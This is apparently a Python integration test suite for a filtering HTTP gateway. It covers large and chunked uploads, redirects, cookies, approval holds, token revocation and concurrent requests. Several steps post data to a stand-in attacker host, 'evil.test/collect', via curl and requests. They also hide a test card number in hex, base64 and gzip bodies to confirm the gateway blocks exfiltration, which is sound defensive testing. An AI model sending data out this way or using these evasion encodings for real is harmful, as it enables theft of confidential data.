"""What takes a client longer: large bodies, many requests at once, a person's answer, an end.

Each step is run by its name; see `tests/http_clients.rs`.
"""

import array
import asyncio
import base64
import gzip
import hashlib
import itertools
import json
import os
import random
import string
import subprocess
import time

import aiohttp
import httpx
import requests

from http_clients import FACES, reverse, token
from story import REDACTED, check, step, tell

LARGE_BYTES = 64 << 20


def large():
    for start in range(0, LARGE_BYTES // 4, 16384):
        yield array.array("I", range(start, start + 16384)).tobytes()


@step
def large_uploads():
    for face in ("reverse", "tunnel"):
        url, own = FACES[face]("/upload")
        # In chunks, without a length.
        answer = requests.post(url, data=large(), headers=own, timeout=120)
        check(answer.json(), {"whole": True}, face)
    url, own = FACES["tunnel"]("/upload")
    sized = {**own, "Content-Length": str(LARGE_BYTES)}
    with httpx.Client(http2=True, timeout=120) as client:
        check(client.post(url, content=large(), headers=sized).json(), {"whole": True})


def lines(count):
    for start in range(count):
        yield b"".join(b'{"n": %d, "note": "and so on"}\n' % n for n in range(start * 999, start * 999 + 999))


@step
def long_uploads_in_parts():
    url, own = reverse("files", "/upload"), token()
    # More than the gateway may grow.
    prose = (b"and so on and on, " * 5000 for _ in range(1800))
    requests.post(url, data=prose, headers=own, timeout=120).raise_for_status()
    sized = {**own, "Content-Length": str(sum(map(len, lines(250))))}
    with httpx.Client(http1=False, http2=True, timeout=120) as client:
        client.post(url, content=lines(250), headers=sized).raise_for_status()


@step
def stolen_uploads_in_parts():
    url, own = reverse("files", "/upload"), token()

    def stolen(wrap):
        yield from lines(80)
        text = wrap(b" and so on" * 99999 + b" 4012 8888 8888 1881 " + b" and so on" * 9999)
        # Cut in the middle of whatever it is.
        yield from (text[at : at + 7777] for at in range(0, len(text), 7777))
        yield from lines(9)

    for wrap in (bytes, bytes.hex, base64.b64encode, base64.encodebytes):
        data = (piece.encode() if isinstance(piece, str) else piece for piece in stolen(wrap))
        answer = requests.post(url, data=data, headers=own, timeout=60)
        check((answer.status_code, answer.json()["reason"]), (403, "blocked"), wrap)
    # Compressed as a whole, said or not; of words that stay long.
    drawn = random.Random(7)
    words = "\n".join(" ".join(drawn.choices(string.ascii_lowercase, k=40)) for _ in range(60_000))
    whole = gzip.compress(words.encode() + b"\n4012 8888 8888 1881\n" + b"and so on\n" * 999)
    check(len(whole) > 1 << 20, True)
    for more in ({}, {"Content-Encoding": "gzip"}):
        answer = requests.post(url, data=whole, headers={**own, **more}, timeout=60)
        check((answer.status_code, answer.json()["reason"]), (403, "blocked"), more)


@step
def large_downloads():
    wanted = hashlib.sha256()
    for piece in large():
        wanted.update(piece)
    for face in ("reverse", "tunnel"):
        url, own = FACES[face]("/large")
        got = hashlib.sha256()
        with httpx.stream("GET", url, headers=own, timeout=120) as answer:
            check(answer.status_code, 200, face)
            for piece in answer.iter_raw():
                got.update(piece)
        check(got.hexdigest(), wanted.hexdigest(), face)


@step
def what_is_too_long_to_be_judged_is_refused():
    # Rules for this group read bodies that go out; 32 MiB is more than is held. What is refused
    # while it is on its way is an answer all the same, not a connection that breaks.
    for url, _ in (FACES["tunnel"]("/upload"), FACES["forward"]("/upload")):
        words = ["curl", "-sS", "-T", "-", "-X", "POST", "--max-time", "60", url]
        done = subprocess.run(words, input=b"".join(itertools.islice(large(), 512)), capture_output=True, check=False)
        assert done.stdout, (url, done.stderr)
        check(json.loads(done.stdout)["reason"], "body_too_large", url)


@step
def what_its_head_refuses_is_answered_while_it_is_sent():
    def some():
        return itertools.islice(large(), 256)

    for scheme in ("https", "http"):
        answer = requests.post(f"{scheme}://evil.test/collect", data=some(), timeout=60)
        check((answer.status_code, answer.json()["reason"]), (403, "blocked"), scheme)
        words = ["curl", "-sS", "-T", "-", "-X", "POST", "--max-time", "60"]
        words.append(f"{scheme}://evil.test/collect")
        done = subprocess.run(words, input=b"".join(some()), capture_output=True, check=False)
        assert done.stdout, (scheme, done.stderr)
        check(json.loads(done.stdout)["reason"], "blocked", scheme)


@step
def an_upload_that_waits_to_be_asked_for():
    for face in ("reverse", "tunnel", "forward"):
        url, own = FACES[face]("/echo")
        body = b"x" * (3 << 20)
        # Over HTTP/2 nobody is told to go on: what a client is waiting for is its own time.
        words = ["curl", "-sS", "--http1.1", "-X", "POST", "--data-binary", "@-"]
        words += ["-H", "Expect: 100-continue"]
        for name, value in {**own, "Content-Type": "text/plain"}.items():
            words += ["-H", f"{name}: {value}"]
        start = time.monotonic()
        words += ["--expect100-timeout", "20", "--max-time", "60", url]
        done = subprocess.run(words, input=body, capture_output=True, check=False)
        check(done.stdout == body, True, face)
        assert time.monotonic() - start < 15, f"{face}: it was never asked for"


@step
def redirects_stay_in_the_resource():
    url, own = FACES["reverse"]("/moved")
    answer = requests.get(url, headers=own, timeout=60)
    check(answer.url, reverse("api", "/customers"))
    check(answer.json()[0]["ssn"], REDACTED)
    answer = requests.get(reverse("api", "/elsewhere"), headers=own, timeout=60)
    check((answer.status_code, answer.json()["reason"]), (502, "redirect_elsewhere"))
    # Through the proxy the next request is judged for itself.
    url, _ = FACES["tunnel"]("/moved")
    check(requests.get(url, timeout=60).json()[0]["ssn"], REDACTED)
    # 307 keeps the method.
    url, _ = FACES["tunnel"]("/elsewhere")
    answer = requests.post(url, data=b"stolen", timeout=60)
    check((answer.status_code, answer.url), (403, "https://evil.test/collect"))


@step
def cookies_stay_in_the_resource():
    with requests.Session() as session:
        url, own = FACES["reverse"]("/cookie")
        check(session.get(url, headers=own, timeout=60).status_code, 200)
        check([(c.name, c.path) for c in session.cookies], [("sid", "/r/api")])
        check(session.get(url, headers=own, timeout=60).text, "sid=4711")
        check(session.get(reverse("model", "/v1/models"), headers=own, timeout=60).status_code, 200)
    with requests.Session() as session:
        url, own = FACES["tunnel"]("/cookie")
        session.get(url, timeout=60)
        check(session.get(url, timeout=60).text, "sid=4711")


@step
def replies_without_a_body():
    for make in FACES.values():
        url, own = make("/empty")
        answer = requests.get(url, headers=own, timeout=60)
        check((answer.status_code, answer.content), (204, b""))
        url, own = make("/customers")
        answer = requests.head(url, headers=own, timeout=60)
        check((answer.status_code, answer.content), (200, b""))
        answer = requests.options(url, headers=own, timeout=60)
        check(answer.status_code, 200)


@step
async def replies_that_nobody_reads():
    """Many begun and none read: what is on its way must wait at its origin."""
    limits = httpx.Limits(max_connections=100)
    for face, client in (
        ("reverse", httpx.AsyncClient(http2=False, timeout=60, limits=limits)),
        ("tunnel", httpx.AsyncClient(http2=True, timeout=60)),
    ):
        url, own = FACES[face]("/large")
        begun = []
        for _ in range(20):
            request = client.build_request("GET", url, headers=own)
            answer = await client.send(request, stream=True)
            check(answer.status_code, 200)
            begun.append(answer)
        # Someone else does not wait for them.
        other, fields = FACES[face]("/customers")
        one = await asyncio.to_thread(requests.get, other, headers=fields, timeout=20)
        check(one.json()[0]["ssn"], REDACTED, face)
        for answer in begun:
            await answer.aclose()
        await client.aclose()


@step
async def a_hundred_at_once():
    def whole(body):
        people = json.loads(body)
        check([one["ssn"] for one in people], [REDACTED] * 3)

    async def streams(client, url, own):
        answers = await asyncio.gather(*(client.get(url, headers=own) for _ in range(100)))
        for answer in answers:
            whole(answer.content)

    for face in ("reverse", "tunnel"):
        url, own = FACES[face]("/customers")
        both = face == "tunnel"
        async with httpx.AsyncClient(http1=both, http2=True, timeout=60) as client:
            await streams(client, url, own)

    async def one(session, url, own):
        async with session.get(url, headers=own) as answer:
            whole(await answer.read())

    for face in ("reverse", "tunnel"):
        url, own = FACES[face]("/customers")
        async with aiohttp.ClientSession(trust_env=True) as session:
            await asyncio.gather(*(one(session, url, own) for _ in range(100)))


@step
def many_on_one_connection():
    for face in ("reverse", "tunnel"):
        url, own = FACES[face]("/kept")
        with requests.Session() as session:
            for _ in range(30):
                check(session.get(url, headers=own, timeout=60).status_code, 200)
            adapter = session.get_adapter(url)
            managers = [adapter.poolmanager, *adapter.proxy_manager.values()]
            pools = [m.pools[key] for m in managers for key in m.pools.keys()]
            check([(p.num_connections, p.num_requests) for p in pools], [(1, 30)], face)


@step
def a_held_request_waits_for_a_person():
    url, own = FACES[os.environ["FACE"]]("/orders")
    answer = requests.post(url, data=b"one order", headers=own, timeout=100)
    check((answer.status_code, answer.content), (200, b"one order"))


@step
def a_denied_request_is_an_exception():
    url, own = FACES[os.environ["FACE"]]("/orders")
    answer = requests.post(url, data=b"another order", headers=own, timeout=100)
    check(answer.status_code, 403)
    check(answer.json()["reason"], "approval_denied")


@step
def a_killed_session_cuts_its_reply():
    url, own = FACES[os.environ["FACE"]]("/endless")
    try:
        with httpx.stream("GET", url, headers=own, timeout=60) as answer:
            check(answer.status_code, 200)
            for _ in answer.iter_raw():
                pass
    except httpx.RemoteProtocolError:
        return
    raise AssertionError("a reply that was cut off looks complete")


@step
def a_revoked_token_opens_nothing():
    url, own = FACES["reverse"]("/customers")
    check(requests.get(url, headers=own, timeout=60).status_code, 401)
    url, own = FACES["forward"]("/customers")
    check(requests.get(url, headers=own, timeout=60).status_code, 407)
    url, own = FACES["tunnel"]("/customers")
    for raises, get in (
        (requests.exceptions.ProxyError, lambda: requests.get(url, timeout=60)),
        (httpx.ProxyError, lambda: httpx.get(url, timeout=60)),
    ):
        try:
            get()
        except raises as error:
            assert "407" in str(error), error
        else:
            raise AssertionError("a revoked token opens a tunnel")


@step
def a_new_rule_holds_for_the_next_request_on_the_same_connection():
    url, own = FACES["tunnel"]("/customers")
    end = time.monotonic() + 60
    with requests.Session() as session:
        check(session.get(url, headers=own, timeout=60).status_code, 200)
        print("begun", flush=True)
        while session.get(url, headers=own, timeout=60).status_code == 200:
            assert time.monotonic() < end, "the rule never holds"
        check(session.get(url, headers=own, timeout=60).json()["detail"], "closed")
        # Others do not notice.
        other, own = FACES["tunnel"]("/kept")
        check(session.get(other, headers=own, timeout=60).status_code, 200)
    check(requests.get(reverse("api", "/customers"), headers=token(), timeout=60).status_code, 200)


if __name__ == "__main__":
    tell()
